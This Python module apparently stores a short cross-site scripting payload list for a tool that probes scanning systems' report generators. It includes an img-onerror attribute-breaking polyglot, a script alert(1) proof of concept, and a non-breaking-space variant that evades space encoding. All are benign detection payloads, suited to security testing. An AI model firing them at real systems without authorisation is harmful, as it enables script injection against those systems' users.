"""The predefined injection payload database.

A short polyglot list, tried in priority order until the first
confirmation: scanning systems can take minutes per scan and hosted ones
must not be flooded, so fewer, broader payloads beat a large corpus.
Long polyglots are deliberately excluded; report generators routinely
shorten strings, so everything here stays within a 64-character budget.

All payloads call ``alert(1)`` so the static context checker and the
browser checker key on one detection marker.
"""

from __future__ import annotations

from dataclasses import dataclass, field, replace

import yaml

DETECTION_MARKER = "alert(1)"

MAX_PAYLOAD_LENGTH = 64

NBSP = " "

CONTEXT_ATTR_SINGLE = "attribute-single-quoted"
CONTEXT_ATTR_DOUBLE = "attribute-double-quoted"
CONTEXT_TAG_TEXT = "tag-text"

HAZARD_URL_ENCODE_SPACES = "url-encode-spaces"


class NoSpaces(ValueError):
    """The payload has no U+0020, so a non-breaking-space variant is meaningless."""


@dataclass(frozen=True)
class Payload:
    payload_id: str
    text: str
    contexts: frozenset[str]
    variant_of: str | None = None
    hazards: frozenset[str] = field(default_factory=frozenset)

    def __post_init__(self) -> None:
        if DETECTION_MARKER not in self.text:
            raise ValueError(f"payload {self.payload_id} lacks the detection marker")
        if "\r" in self.text or "\n" in self.text:
            raise ValueError(f"payload {self.payload_id} would break HTTP framing")

    @property
    def length(self) -> int:
        return len(self.text)


def nbsp_variant(p: Payload) -> Payload:
    """The same payload with every space turned into a non-breaking space.

    Survives report pipelines that percent-encode U+0020 in tainted
    locations; display-side whitespace normalization then restores a
    working payload.
    """

    if " " not in p.text:
        raise NoSpaces(f"payload {p.payload_id} contains no U+0020")
    return replace(
        p,
        payload_id=f"{p.payload_id}-nbsp",
        text=p.text.replace(" ", NBSP),
        variant_of=p.payload_id,
        hazards=p.hazards | {HAZARD_URL_ENCODE_SPACES},
    )


_IMG_ONERROR = Payload(
    payload_id="img-onerror",
    text="\"'/><img src='x' onerror='alert(1)'/>",
    contexts=frozenset({CONTEXT_ATTR_SINGLE, CONTEXT_ATTR_DOUBLE, CONTEXT_TAG_TEXT}),
)

_SCRIPT_POC = Payload(
    payload_id="script-poc",
    text="<script>alert(1)</script>",
    contexts=frozenset({CONTEXT_TAG_TEXT}),
)


def builtin_payloads() -> list[Payload]:
    """Priority-ordered payload list.

    The short attribute-breaking polyglot leads because it covers the most
    contexts per trial; its non-breaking-space variant handles encoders
    that eat plain spaces; the classic script PoC closes the list.
    """

    return [_IMG_ONERROR, nbsp_variant(_IMG_ONERROR), _SCRIPT_POC]


def payload_by_id(payload_id: str, payloads: list[Payload] | None = None) -> Payload:
    for p in payloads or builtin_payloads():
        if p.payload_id == payload_id:
            return p
    raise KeyError(f"no payload {payload_id!r}")


def dump_payloads(payloads: list[Payload]) -> str:
    """Serialize a payload list to the editable YAML exchange format."""

    rows = [
        {
            "payload_id": p.payload_id,
            "text": p.text,
            "contexts": sorted(p.contexts),
            "variant_of": p.variant_of,
            "hazards": sorted(p.hazards),
        }
        for p in payloads
    ]
    return yaml.safe_dump(rows, sort_keys=False, allow_unicode=True)


def load_payloads(text: str) -> list[Payload]:
    rows = yaml.safe_load(text)
    return [
        Payload(
            payload_id=row["payload_id"],
            text=row["text"],
            contexts=frozenset(row.get("contexts") or ()),
            variant_of=row.get("variant_of"),
            hazards=frozenset(row.get("hazards") or ()),
        )
        for row in rows
    ]
